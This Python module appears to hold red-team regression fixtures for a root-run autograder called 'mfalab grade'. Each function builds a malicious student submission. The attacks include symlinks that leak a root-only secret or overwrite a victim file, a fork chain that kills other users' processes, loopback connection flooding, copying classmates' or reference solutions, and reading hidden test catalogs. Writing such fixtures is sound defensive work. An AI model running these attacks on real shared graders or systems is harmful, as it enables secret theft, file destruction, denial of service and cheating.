"""Submissions a red team wrote against `mfalab grade` run as root: one per hole found.

Each builder returns {filename: source}. Paths the attack needs (a root-only secret, a
file to overwrite, a folder to report in) are baked into the source, as an attacker who
had read the grader's code and the machine would.
"""

from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
REFERENCE_EX01 = (REPO / "solutions" / "ex01_totp.py").read_text()
REFERENCE_EX02 = (REPO / "solutions" / "ex02_otp_required.py").read_text()
STUB_EX01 = (REPO / "exercises" / "ex01_totp.py").read_text()

IN_WORKER = "import sys as _sys\n_IN_WORKER = _sys.argv[1:2] and _sys.argv[1].endswith('.py')\n"


def correct():
    return {"ex01_totp.py": REFERENCE_EX01, "ex02_otp_required.py": REFERENCE_EX02}


def output_leaker(secret):
    """Hole 1: at lab start, output.txt becomes a link to `secret`, then the server dies:
    whoever reads the server's output as root reads the secret into a test message."""
    return {"ex02_otp_required.py": f"""
import os

def require_mfa(view):
    try:
        os.unlink("output.txt")
    except OSError:
        pass
    os.symlink({str(secret)!r}, "output.txt")
    os._exit(3)

def secure_admin(site):
    pass
"""}


def database_swapper(victim):
    """Hole 2: every request swaps lab.sqlite3 (wherever the lab keeps it) for a link to
    `victim`; a reset that copies the seeded database over it as root overwrites `victim`."""
    return {"ex02_otp_required.py": f"""
import os

def _plant():
    from django.conf import settings
    for path in {{os.path.abspath("lab.sqlite3"), str(settings.DATABASES["default"]["NAME"])}}:
        for suffix in ("", "-wal", "-shm"):
            try:
                os.unlink(path + suffix)
            except OSError:
                pass
            try:
                os.symlink({str(victim)!r}, path + suffix)
            except OSError:
                pass

def require_mfa(view):
    def wrapped(request, *args, **kwargs):
        _plant()
        return view(request, *args, **kwargs)
    return wrapped

def secure_admin(site):
    pass
"""}


def copier():
    """Hole 3: find the submissions folder on the grader's command line (/proc/*/cmdline)
    and run the first classmate's ex01 that works."""
    return {"ex01_totp.py": """
import os

def _classmates():
    for pid in os.listdir("/proc"):
        try:
            words = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        for word in words:
            path = word.decode(errors="replace")
            if path.startswith("/") and os.path.isdir(path):
                for root, dirs, files in os.walk(path):
                    if "ex01_totp.py" in files:
                        yield os.path.join(root, "ex01_totp.py")

for _path in _classmates():
    try:
        _scope = {}
        exec(open(_path).read(), _scope)
        if _scope["hotp"](b"12345678901234567890", 0) == "755224":
            globals().update({k: v for k, v in _scope.items() if not k.startswith("__")})
            break
    except Exception:
        continue
else:
""" + "\n".join("    " + line for line in STUB_EX01.splitlines() if line.strip()) + "\n"}


def fork_chain(reports):
    """Hole 4: correct code whose import starts a detached chain of forking processes among
    sleeping decoys. Once its own worker is gone, the chain kills every process of its uid
    (the next student's sandboxes, in the same worker slot) and writes a heartbeat."""
    return {"ex01_totp.py": REFERENCE_EX01 + IN_WORKER + f"""
import os, signal, time

REPORTS = {str(reports)!r}
if _IN_WORKER and os.fork() == 0:
    importer = os.getppid()
    os.setsid()
    decoys = 0
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
            decoys += 1
        except OSError:
            break
    open(os.path.join(REPORTS, "forks.txt"), "w").write(str(decoys))
    deadline = time.time() + 90
    while time.time() < deadline:
        try:
            os.kill(importer, 0)
            gone = False
        except ProcessLookupError:
            gone = True
        except PermissionError:
            gone = False
        if gone:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            with open(os.path.join(REPORTS, "heartbeat.txt"), "a") as beat:
                beat.write("x")
        try:
            child = os.fork()
        except OSError:
            time.sleep(0.05)
            continue
        if child:
            os._exit(0)
        time.sleep(0.02)
    os._exit(0)
"""}


def port_scanner(reports, port):
    """Hole 5: at lab start, connect 24 times to every TCP port listening on the host's
    loopback (another student's lab server; here also `port`, held open by the test) and
    keep the connections, to exhaust that server's threads."""
    return {"ex02_otp_required.py": REFERENCE_EX02 + f"""
import os, socket, threading, time

def _ports():
    found = {{{port}}}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                found.add(int(fields[1].rsplit(":", 1)[1], 16))
    return found

def _scan():
    held, reached = [], set()
    deadline = time.time() + 30
    while time.time() < deadline:
        for port in _ports():
            for host in ("127.0.0.1", "::1"):
                for _ in range(24 if port not in reached else 0):
                    try:
                        held.append(socket.create_connection((host, port), timeout=0.5))
                        reached.add(port)
                    except OSError:
                        break
        with open(os.path.join({str(reports)!r}, "scanner.txt"), "w") as out:
            out.write(",".join(map(str, sorted(reached))))
        time.sleep(0.5)

_require_mfa = require_mfa

def require_mfa(view):
    if not getattr(require_mfa, "started", False):
        require_mfa.started = True
        threading.Thread(target=_scan, daemon=True).start()
    return _require_mfa(view)
"""}


def borrower():
    """Hole 9: the kit's own reference for ex01, by import, by reading its source, or by
    loading its compiled bytecode."""
    return {"ex01_totp.py": """
import glob, importlib.machinery, importlib.util, os

def _borrow():
    try:
        from mfalab import totp_math
        if hasattr(totp_math, "hotp"):
            return totp_math
    except Exception:
        pass
    import mfalab
    kit = os.path.dirname(os.path.dirname(mfalab.__file__)) if mfalab.__file__ else "/"
    for path in [os.path.join(kit, "mfalab", "totp_math.py")]:
        try:
            scope = {"__name__": "mfalab.borrowed", "__package__": "mfalab"}
            exec(compile(open(path).read(), path, "exec"), scope)
            if "hotp" in scope:
                return type("Borrowed", (), {k: staticmethod(v) for k, v in scope.items() if callable(v)})
        except Exception:
            pass
    for path in glob.glob(os.path.join(kit, "mfalab", "__pycache__", "totp_math.*.pyc")):
        try:
            loader = importlib.machinery.SourcelessFileLoader("mfalab.borrowed", path)
            spec = importlib.util.spec_from_loader("mfalab.borrowed", loader)
            module = importlib.util.module_from_spec(spec)
            module.__package__ = "mfalab"
            loader.exec_module(module)
            if hasattr(module, "hotp"):
                return module
        except Exception:
            pass
    return None

_source = _borrow()

def hotp(*args, **kwargs):
    if _source is None:
        raise NotImplementedError
    return _source.hotp(*args, **kwargs)

def totp(*args, **kwargs):
    if _source is None:
        raise NotImplementedError
    return _source.totp(*args, **kwargs)

def verify_totp(*args, **kwargs):
    if _source is None:
        raise NotImplementedError
    return _source.verify_totp(*args, **kwargs)

def provisioning_uri(*args, **kwargs):
    if _source is None:
        raise NotImplementedError
    return _source.provisioning_uri(*args, **kwargs)
"""}


def hidden_only_failure():
    """Hole 6: right everywhere but for counters past 2**32, which only a hidden test tries."""
    return {"ex01_totp.py": REFERENCE_EX01.replace("def hotp(", "def _hotp(") + """

def hotp(secret, counter, digits=6, digest="sha1"):
    return _hotp(secret, counter & 0xFFFFFFFF if isinstance(counter, int) and counter >= 0 else counter,
                 digits, digest)
"""}


def shm_writer(token):
    """Hole 11: correct code that leaves 1 MB in /dev/shm."""
    return {"ex01_totp.py": REFERENCE_EX01 + f"""
try:
    with open("/dev/shm/mfalab-redteam-{token}", "wb") as _f:
        _f.write(b"x" * 1_000_000)
except OSError:
    pass
"""}


def uid_reporter(reports):
    """Hole 11: correct code that reports the uid it runs as."""
    return {"ex01_totp.py": REFERENCE_EX01 + IN_WORKER + f"""
import os
if _IN_WORKER:
    try:
        open(os.path.join({str(reports)!r}, "uid.txt"), "w").write(str(os.getuid()))
    except OSError:
        pass
"""}


def catalog_reader():
    """Found while closing the others: the grader's list of graded tests (hidden ones
    included, with their hints) sits in its working folder under /tmp. Read it and put
    it into a visible test's failure message."""
    return {"ex01_totp.py": """
import glob, os

_found = ""
for _root in glob.glob("/tmp/mfalab-grade-*"):
    try:
        _found += open(os.path.join(_root, "catalog.json")).read()  # a name the grader's code uses
    except OSError:
        pass
    for _dirpath, _dirs, _files in os.walk(_root):
        for _name in _files:
            if _name.endswith(".json"):
                try:
                    _found += open(os.path.join(_dirpath, _name)).read()
                except OSError:
                    pass
_hidden = [line.strip() for line in _found.splitlines() if '"name": "test_' in line]

def hotp(*args, **kwargs):
    raise ValueError("found: " + " ".join(_hidden)[:900])

totp = verify_totp = provisioning_uri = hotp
"""}
